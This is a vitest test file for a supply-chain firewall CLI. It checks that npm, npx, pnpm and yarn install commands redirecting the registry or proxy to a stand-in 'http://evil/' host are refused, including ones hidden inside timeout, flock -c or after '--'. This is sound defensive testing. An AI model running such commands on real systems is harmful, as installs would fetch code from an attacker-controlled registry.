import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkInstallOptions } from '../../helper/src/firewall/install-env.js';
import { runCli } from '../support/cli.js';

/** npm's routing options are judged on npm, npx, pnpm, pnpx, yarn and yarnpkg command lines only (review 5, L1). */
describe('firewall run: client options', () => {
  it.each([
    [['node', '-e', '0', '--user', 'admin']],
    [['node', 'scripts/seed.js', '--user', 'admin']],
    [['helm', 'registry', 'login', '--registry-config', 'f']],
    [['npm', 'exec', '--', 'seed', '--user', 'admin', '--registry=x']],
    [['/usr/bin/npx', '--yes', '--', 'seed', '--prox', 'x']],
  ])('another program\'s options are its own: %j', (argv) => {
    expect(() => checkInstallOptions(argv)).not.toThrow();
  });

  it.each([
    [['npm', 'ci', '--registry=http://evil/']],
    [['npx', '--reg', 'http://evil/', 'tool']],
    [['pnpm', 'install', '--config.registry=http://evil/']],
    [['yarn', 'install', '--registry', 'http://evil/']],
    [['yarnpkg', 'add', '--https-proxy=http://evil/']],
    [['pnpx', '--userconfig=x', 'tool']],
    [['timeout', '60', 'npm', 'ci', '--registry=http://evil/']],
    [['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'ci', '--@acme:registry=http://evil/']],
    [['flock', '/tmp/l', '-c', "npm ci --registry='http://evil/'"]],
    [['pnpm', 'install', '--', '--registry=http://evil/']],
  ])('an npm, pnpm or yarn routing option is refused: %j', (argv) => {
    expect(() => checkInstallOptions(argv)).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });

  it("runs sh -c 'true && node seed.js --user admin' (exit 0; it was refused as npm's --user)", async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sscs-fw-client-options-'));
    await writeFile(join(dir, 'policy.yml'), 'version: 1\nmode: enforce\ndefault_action: allow\nrules: []\n');
    await writeFile(join(dir, 'seed.js'), "if (process.argv.slice(2).join(' ') !== '--user admin') process.exit(3);\n");
    const r = await runCli(['firewall', 'run', '--policy', 'policy.yml', '--upstream', 'http://127.0.0.1:9', '--pypi-upstream', 'none', '--data-dir', join(dir, 'fw'), '--', 'sh', '-c', 'true && node seed.js --user admin'], { cwd: dir, env: { HOME: dir }, timeoutMs: 60_000 });
    expect(r.exitCode, r.stderr).toBe(0);
  }, 60_000);
});
